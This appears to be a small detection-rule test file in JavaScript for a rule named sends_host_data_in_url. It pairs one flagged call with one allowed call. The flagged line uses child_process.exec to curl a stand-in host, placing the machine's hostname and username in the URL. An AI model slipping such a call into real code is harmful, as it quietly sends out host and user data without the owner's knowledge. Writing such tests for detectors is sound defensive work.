const { exec } = require('child_process');
// ruleid: sends_host_data_in_url
exec(`curl -s https://telemetry.example.top/${require('os').hostname()}/${process.env.USER}`);
// ok: sends_host_data_in_url
exec(`curl -s https://example.org/releases/${version}/index.json`);
